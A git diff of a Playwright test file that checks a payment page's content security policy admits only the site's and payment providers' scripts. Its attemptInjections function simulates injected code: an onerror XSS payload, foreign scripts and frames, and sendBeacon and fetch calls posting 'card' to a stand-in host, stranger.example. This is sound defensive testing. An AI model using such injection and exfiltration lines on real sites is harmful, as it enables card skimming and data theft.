@@ -6,27 +6,27 @@ import { fakeStripeJs } from '../providers/stripe/fake-stripe-js.ts'
 import { type OwnSite, ownSite } from './own-site.ts'
 import { toThePayButton } from './stripe-site.ts'
 
-// What runs in the document in which one pays: our scripts and the provider's, each named, and nobody else's.
+// Scripts in the payment document: only ours and the provider's; the content security policy blocks everything else.
 
 const bank = 'https://ipgtest.monri.com'
 
-interface Payee {
+interface ProviderCase {
   env: Record<string, string>
   scripts(origin: string): (string | RegExp)[]
-  /** Whose frames stand in the page. */
+  /** Origins of the frames in the page. */
   frames(origin: string): string[]
-  /** How it looks where one is about to pay. */
+  /** Waits until the payment can be made. */
   open(page: Page): Promise<void>
 }
 
-const theWindow = (page: Page) => expect(page.locator('dialog .card-box iframe')).toHaveCount(3)
+const expectPaymentWindow = (page: Page) => expect(page.locator('dialog .card-box iframe')).toHaveCount(3)
 
-const payees: Record<string, Payee> = {
+const providerCases: Record<string, ProviderCase> = {
   'the sandbox': {
     env: {},
     scripts: (origin) => [`${origin}/sandbox/v1.js`],
     frames: (origin) => [origin],
-    open: theWindow,
+    open: expectPaymentWindow,
   },
   Stripe: {
     env: {
@@ -36,7 +36,7 @@ const payees: Record<string, Payee> = {
     },
     scripts: () => [/^https:\/\/js\.stripe\.com\/[a-z]+\/stripe\.js$/],
     frames: () => ['https://js.stripe.com'],
-    open: theWindow,
+    open: expectPaymentWindow,
   },
   Monri: {
     env: { MONRI_KEY: key, MONRI_AUTHENTICITY_TOKEN: authenticityToken, MONRI_API_BASE: bank },
@@ -46,20 +46,20 @@ const payees: Record<string, Payee> = {
   },
 }
 
-for (const [name, payee] of Object.entries(payees)) {
+for (const [name, provider] of Object.entries(providerCases)) {
   test.describe(name, () => {
     let own: OwnSite
     let origin: string
     test.beforeAll(async () => {
       own = await ownSite()
-      origin = (await own.start(payee.env)).origin
+      origin = (await own.start(provider.env)).origin
     })
     test.afterAll(() => own.close())
 
-    async function goToPay(page: Page) {
+    async function openPayment(page: Page) {
       const stripe = await fakeStripe()
       await fakeStripeJs(page, stripe, ['applePay'])
-      // The bank's page doesn't come, so that ours stays.
+      // 204 keeps the browser on our page instead of the bank's.
       await page.route(`${bank}/**`, (route) => route.fulfill({ status: 204 }))
       const scripts = new Set<string>()
       page.on('request', (request) => {
@@ -68,38 +68,38 @@ for (const [name, payee] of Object.entries(payees)) {
       const { payButton } = await toThePayButton(page, origin)
       const before = new Set(scripts)
       await payButton().click()
-      await payee.open(page)
+      await provider.open(page)
       await stripe.close()
       return { before, scripts }
     }
 
-    test('runs our scripts and the provider’s, and nobody else’s', async ({ page }) => {
-      const { before, scripts } = await goToPay(page)
+    test('runs only our scripts and those of the provider', async ({ page }) => {
+      const { before, scripts } = await openPayment(page)
       const built = (await readdir('build/client/assets')).map((file) => `${origin}/assets/${file}`)
-      const notOurs = (addresses: Set<string>) => [...addresses].filter((address) => !built.includes(address))
-      expect(notOurs(before)).toEqual([])
-      const theirs = payee
+      const foreignScripts = (addresses: Set<string>) => [...addresses].filter((address) => !built.includes(address))
+      expect(foreignScripts(before)).toEqual([])
+      const theirs = provider
         .scripts(origin)
         .map((wanted) => (typeof wanted === 'string' ? wanted : expect.stringMatching(wanted)))
-      expect(notOurs(scripts)).toEqual(theirs)
+      expect(foreignScripts(scripts)).toEqual(theirs)
 
-      // JSON is data, and runs nowhere.
+      // JSON scripts are data and never executed.
       const inDocument = await page
         .locator('script:not([type$="json"])')
         .evaluateAll((all: HTMLScriptElement[]) => all.map(({ src }) => src || 'inline'))
       expect(inDocument.filter((script) => !scripts.has(script))).toEqual([])
       const frames = page.frames().filter((frame) => frame !== page.mainFrame())
-      expect([...new Set(frames.map((frame) => new URL(frame.url()).origin))]).toEqual(payee.frames(origin))
+      expect([...new Set(frames.map((frame) => new URL(frame.url()).origin))]).toEqual(provider.frames(origin))
     })
 
-    test('refuses a stranger every way in and every way out', async ({ page }) => {
-      await goToPay(page)
+    test('blocks injected scripts and every connection to another origin', async ({ page }) => {
+      await openPayment(page)
       const reached: string[] = []
       await page.route('https://stranger.example/**', (route) => {
         reached.push(route.request().url())
         return route.fulfill({ contentType: 'text/javascript', body: 'window.stolen = true' })
       })
-      await page.evaluate(tryEverything)
+      await page.evaluate(attemptInjections)
       const refused = () => page.evaluate(() => [...(window.refused ?? [])].sort())
       await expect
         .poll(refused)
@@ -126,25 +126,28 @@ declare global {
   }
 }
 
-/** Runs in the page, as what had got into it would. */
-function tryEverything() {
+/** Runs in the page: what injected code would attempt. */
+function attemptInjections() {
   const refused = new Set<string>()
   window.refused = refused
   addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
     refused.add(`${effectiveDirective} ${blockedURI}`)
   })
   const away = 'https://stranger.example'
-  const put = <Tag extends keyof HTMLElementTagNameMap>(tag: Tag, told: Partial<HTMLElementTagNameMap[Tag]>) => {
-    const made = Object.assign(document.createElement(tag), told)
+  const append = <Tag extends keyof HTMLElementTagNameMap>(
+    tag: Tag,
+    properties: Partial<HTMLElementTagNameMap[Tag]>,
+  ) => {
+    const made = Object.assign(document.createElement(tag), properties)
     document.body.append(made)
     return made
   }
-  put('script', { src: `${away}/script.js` })
-  put('script', { textContent: 'window.stolen = true' })
-  put('div', { innerHTML: '<img src="data:," onerror="window.stolen = true">' })
-  put('img', { src: `${away}/picture.png` })
-  put('iframe', { src: away })
-  put('form', { action: `${away}/form`, method: 'post' }).submit()
+  append('script', { src: `${away}/script.js` })
+  append('script', { textContent: 'window.stolen = true' })
+  append('div', { innerHTML: '<img src="data:," onerror="window.stolen = true">' })
+  append('img', { src: `${away}/picture.png` })
+  append('iframe', { src: away })
+  append('form', { action: `${away}/form`, method: 'post' }).submit()
   navigator.sendBeacon(`${away}/beacon`, 'card')
   fetch(`${away}/fetch`, { method: 'POST', body: 'card' }).catch(() => {})
 }
